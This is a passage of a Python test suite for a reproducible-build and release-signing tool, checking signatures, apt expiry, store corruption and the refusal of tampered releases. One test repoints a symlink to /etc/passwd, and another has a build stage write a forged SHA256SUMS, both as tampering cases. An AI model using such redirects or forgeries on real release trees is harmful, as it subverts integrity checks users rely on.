    config = tmp_path / "trust-config.json"
    config.write_text(json.dumps(standin.trust_config()))
    result = mlos("release", "--keys", keys, "--out", tmp_path / "rel", "--recipes", recipes, "--store", shared_store,
                  "--release-version", "1.0", "--sigstore", "--trust-config", config)
    assert result.code == 5 and "--identity-token" in result.stderr
    assert not (tmp_path / "rel").exists()
    expired = mlos("release", "--keys", keys, "--out", tmp_path / "rel", "--recipes", recipes, "--store",
                   shared_store, "--release-version", "1.0", "--sigstore", "--trust-config", config, "--identity-token",
                   standin.token(IDENTITY, lifetime=-60))
    assert expired.code == 5 and "identity token" in expired.stderr
    assert not (tmp_path / "rel").exists()


def test_two_builds_sign_the_same_payloads(built: tuple[Path, Path], keys: Path, shared_store: Path,
                                           tmp_path: Path) -> None:
    """Every stage built again (--no-cache): the links, provenance and SBOM statements carry the
    same payloads, and the SBOMs are the same bytes."""
    recipes, _ = built
    first = release(built, keys, shared_store, tmp_path / "first")
    again = mlos("build", "--no-cache", "--recipes", recipes, "--out", tmp_path / "out2", "--store", shared_store)
    assert again.code == 0, again.stderr
    assert "built" in again.stderr
    second = release((recipes, tmp_path / "out2"), keys, shared_store, tmp_path / "second")
    envelopes = sorted(p.relative_to(first) for p in (first / "attestations").rglob("*") if p.is_file())
    assert len(envelopes) == 6 + 2 * 7  # a link per stage; provenance and SBOM per output
    for rel in envelopes:
        a = json.loads((first / rel).read_text())["payload"]
        b = json.loads((second / rel).read_text())["payload"]
        assert a == b, rel
    for sbom in (first / "sbom").rglob("*.cdx.json"):
        assert sbom.read_bytes() == (second / sbom.relative_to(first)).read_bytes(), sbom


def test_classic_links_signed_with_openpgp(built: tuple[Path, Path], keys: Path, shared_store: Path,
                                           tmp_path: Path) -> None:
    """--links openpgp: in-toto Metablocks signed by the archive key; the statements
    stay DSSE, signed by the builder key the layout lists outside any step."""
    recipes, out = built
    rel = tmp_path / "rel"
    made = mlos("release", "--keys", keys, "--out", rel, "--from", out, "--recipes", recipes, "--store", shared_store,
                "--release-version", "1.0", "--links", "openpgp")
    assert made.code == 0, made.stderr
    (link,) = (rel / "attestations/links").glob("rootfs.*.link")
    block = json.loads(link.read_text())
    assert block["signed"]["_type"] == "link" and "other_headers" in block["signatures"][0]  # an OpenPGP signature
    code, report, err = verify(rel, keys)
    assert code == 0, (report, err)
    # Edited after signing: refused like a DSSE link.
    block["signed"]["products"]["rootfs/rootfs.tar"]["sha256"] = "0" * 64
    link.write_text(json.dumps(block))
    code, report, _ = verify(rel, keys)
    assert code == 1 and "Step 'rootfs' requires at least '1' links" in failed(report)[5]


def apt_update(repo: Path, keyring: Path, work: Path) -> subprocess.CompletedProcess[str]:
    """apt-get update of one repository, with apt's date checks on whatever the host says."""
    for d in ("lists/partial", "cache"):
        (work / d).mkdir(parents=True, exist_ok=True)
    (work / "sources.list").write_text(f"deb [signed-by={keyring}] file:{repo} mlos main\n")
    return subprocess.run(["apt-get", "-o", f"Dir::Etc::SourceList={work / 'sources.list'}", "-o",
                           "Dir::Etc::SourceParts=/dev/null", "-o", f"Dir::State::Lists={work / 'lists'}", "-o",
                           f"Dir::Cache={work / 'cache'}", "-o", "Acquire::Check-Valid-Until=true", "-o",
                           "Acquire::Check-Date=true", "update"], capture_output=True, text=True)


def test_apt_refuses_the_repository_once_the_release_expires(honest: Path, keys: Path, tmp_path: Path) -> None:
    """The release's expiry reaches apt: InRelease carries it as Valid-Until, and apt itself
    refuses the repository after it (the unsigned Release stays the attested stage output)."""
    repo = honest / "artifacts/apt/repo"
    keyring = honest / "artifacts/apt/mlos-archive-keyring.gpg"
    expires = json.loads((honest / "release.json").read_text())["expires"]
    in_release = (repo / "dists/mlos/InRelease").read_text()
    when = datetime.datetime.strptime(expires, "%Y-%m-%dT%H:%M:%SZ")
    assert f"Valid-Until: {when:%a, %d %b %Y %H:%M:%S} UTC" in in_release
    assert "Valid-Until" not in (repo / "dists/mlos/Release").read_text()
    assert not (repo / "dists/mlos/Release.gpg").exists()
    fresh = apt_update(repo, keyring, tmp_path / "fresh")
    assert fresh.returncode == 0 and "expired" not in fresh.stdout + fresh.stderr, fresh.stdout + fresh.stderr
    # The same repository signed as a release that expired in 2021.
    old = tmp_path / "old"
    shutil.copytree(repo, old)
    from mlos_repro.sign.gpg import GpgSigner
    from mlos_repro.sign.repository import with_valid_until

    (old / "dists/mlos/InRelease").write_bytes(GpgSigner(keys / "gnupg").clearsign(
        with_valid_until((old / "dists/mlos/Release").read_bytes(), datetime.datetime(2021, 1, 1, tzinfo=datetime.UTC))))
    stale = apt_update(old, keyring, tmp_path / "stale")
    assert stale.returncode == 100 and "is expired" in stale.stderr, stale.stdout + stale.stderr


LINKS = """
[[stage]]
name = "links"
outputs = ["tree"]
run = [["sh", "-euc", "mkdir -p /out/tree && echo hello > /out/tree/a && ln -s a /out/tree/b"]]
"""


def test_a_symlink_in_a_tree_output_verifies_as_its_target_text(keys: Path, shared_store: Path,
                                                                  tmp_path: Path) -> None:
    """Writer and verifier give a symlink one meaning: a file whose content is its target text,
    never followed. An honest release with one verifies; pointed elsewhere, it does not."""
    recipes = write_repo(tmp_path / "repo", LINKS)
    out = tmp_path / "out"
    assert mlos("build", "--recipes", recipes, "--out", out, "--store", shared_store).code == 0
    rel = release((recipes, out), keys, shared_store, tmp_path / "rel")
    link = rel / "artifacts/links/tree/b"
    assert link.is_symlink() and os.readlink(link) == "a"
    sums = (rel / "SHA256SUMS").read_text()
    assert f"{hashlib.sha256(b'a').hexdigest()}  links/tree/b\n" in sums
    code, report, err = verify(rel, keys)
    assert code == 0, (report, err)
    link.unlink()
    link.symlink_to("/etc/passwd")
    code, report, _ = verify(rel, keys)
    assert code == 1 and "artifacts/links/tree/b: sha256" in failed(report)[8]


def test_an_output_named_like_the_folder_sums_is_refused(keys: Path, shared_store: Path, tmp_path: Path) -> None:
    """The release writes artifacts/STAGE/SHA256SUMS itself; a stage output of that name is
    refused before anything is signed, never overwritten."""
    recipes = write_repo(tmp_path / "repo", """
[[stage]]
name = "sums"
outputs = ["SHA256SUMS"]
run = [["sh", "-euc", "echo 0000 forged > /out/SHA256SUMS"]]
""")
    out = tmp_path / "out"
    assert mlos("build", "--recipes", recipes, "--out", out, "--store", shared_store).code == 0
    result = mlos("release", "--keys", keys, "--out", tmp_path / "rel", "--from", out, "--recipes", recipes,
                  "--store", shared_store)
    assert result.code == 2 and "sums/SHA256SUMS: a stage output may not be named SHA256SUMS" in result.stderr
    assert not (tmp_path / "rel").exists()


def test_two_honest_releases_do_not_mix(honest: Path, built: tuple[Path, Path], keys: Path, shared_store: Path,
                                        tmp_path: Path) -> None:
    """Every file of two honest releases of one build is validly signed; mixed, they are refused."""
    other = release(built, keys, shared_store, tmp_path / "other")
    for moved, check, words in ((["release.json", "release.json.gpg"], 2, "layout/root.layout: sha256"),
                                (["layout/root.layout"], 2, "layout/root.layout: sha256"),
                                (["layout/bindings.json"], 2, "layout/bindings.json: sha256"),
                                (["artifacts/apt/repo/dists/mlos/InRelease"], 13, "Valid-Until")):
        mixed = copy_of(honest, tmp_path, "mixed-" + moved[0].replace("/", "-"))
        for name in moved:
            shutil.copy(other / name, mixed / name)
        if moved[0].startswith("artifacts/"):
            signed_by_release_key(mixed, keys)  # even with SHA256SUMS and release.json made to match
        code, report, err = verify(mixed, keys)
        assert code == 1, (moved, report, err)
        assert words in failed(report).get(check, ""), (moved, failed(report))


def test_a_root_key_that_is_no_key_is_named(honest: Path, keys: Path, tmp_path: Path) -> None:
    for content in (b"[1]", b"[" * 100_000 + b"]" * 100_000, b"\xff\xfe"):
        bad = tmp_path / "root.json"
        bad.write_bytes(content)
        result = mlos("verify", honest, "--root-key", bad, "--keyring", keys / "archive-keyring.gpg", "--json")
        assert result.code == 2, result.stderr
        assert str(bad) in failed(json.loads(result.stdout))[3]


def agents_of(home: Path) -> list[int]:
    """The gpg-agent processes serving the GnuPG home `home`."""
    pids = []
    for proc in Path("/proc").iterdir():
        try:
            argv = (proc / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if proc.name.isdigit() and argv and argv[0].endswith(b"gpg-agent") and str(home).encode() in argv:
            pids.append(int(proc.name))
    return pids


def test_keys_init_and_release_stop_the_agents_they_start(built: tuple[Path, Path], shared_store: Path,
                                                          tmp_path: Path) -> None:
    keys = tmp_path / "keys"
    made = mlos("keys", "init", keys)
    assert made.code == 0, made.stderr
    assert agents_of(keys / "gnupg") == []
    release(built, keys, shared_store, tmp_path / "rel")
    assert (tmp_path / "rel" / "SHA256SUMS.gpg").exists()
    assert agents_of(keys / "gnupg") == []
    # An agent the user runs there already is theirs: left running.
    subprocess.run(["gpg-connect-agent", "--homedir", str(keys / "gnupg"), "/bye"], check=True,
                   capture_output=True)
    try:
        theirs = agents_of(keys / "gnupg")
        assert len(theirs) == 1
        release(built, keys, shared_store, tmp_path / "rel2")
        assert agents_of(keys / "gnupg") == theirs
    finally:
        subprocess.run(["gpgconf", "--homedir", str(keys / "gnupg"), "--kill", "gpg-agent"], check=False)


def test_a_blob_changed_in_the_store_is_never_signed(keys: Path, shared_store: Path, tmp_path: Path,
                                                     unique: str) -> None:
    """A store is user-writable: release re-hashes what it writes out, refuses a changed blob by
    name and writes nothing; `store check` finds it, `--repair` removes it, a build makes it again."""
    recipes = write_repo(tmp_path / "repo", STAGES.replace("@VERSION@", "1." + unique[:8]) + BUNDLE)
    (tmp_path / "repo/layouts").mkdir()
    (tmp_path / "repo/layouts/layout.toml").write_text(BINDING)
    out = tmp_path / "out"
    assert mlos("build", "--recipes", recipes, "--out", out, "--store", shared_store).code == 0
    digest = json.loads((out / "manifest.json").read_text())["stages"]["bundle"]["outputs"]["bundle.tar"]
    blob = shared_store / "blobs/sha256" / digest.removeprefix("sha256:")
    os.chmod(blob, 0o644)
    with blob.open("r+b") as f:  # one byte, as a faulty disk or a hand-run tool would
        f.seek(100)
        byte = f.read(1)
        f.seek(100)
        f.write(bytes([byte[0] ^ 1]))

    result = mlos("release", "--keys", keys, "--out", tmp_path / "rel", "--from", out, "--recipes", recipes,
                  "--store", shared_store, "--release-version", "1.0")
    assert result.code == 1, result.stderr
    assert digest in result.stderr and "changed after it was stored" in result.stderr
    assert "store check --repair" in result.stderr
    assert not (tmp_path / "rel").exists() and not list(tmp_path.glob(".rel*"))
    assert not blob.exists()  # refused and removed: nothing builds on it either

    # The same change, found by store check (put it back first: release removed it).
    made = mlos("build", "--recipes", recipes, "--out", tmp_path / "out2", "--store", shared_store, "--json")
    assert made.code == 0, made.stderr
    assert json.loads(made.stdout)["stages"]["bundle"]["cached"] is False
    os.chmod(blob, 0o644)
    blob.write_bytes(b"not what was built")
    check = mlos("store", "check", "--store", shared_store, "--json")
    assert check.code == 1, check.stderr
    report = json.loads(check.stdout)
    assert any(c.startswith(blob.name + ": content has sha256") for c in report["corrupted"])
    assert any("output 'bundle.tar'" in e for e in report["broken_entries"])
    repaired = mlos("store", "check", "--store", shared_store, "--repair", "--json")
    assert repaired.code == 1 and f"blobs/sha256/{blob.name}" in json.loads(repaired.stdout)["removed"]
    again = mlos("store", "check", "--store", shared_store, "--json")
    assert again.code == 0, again.stdout

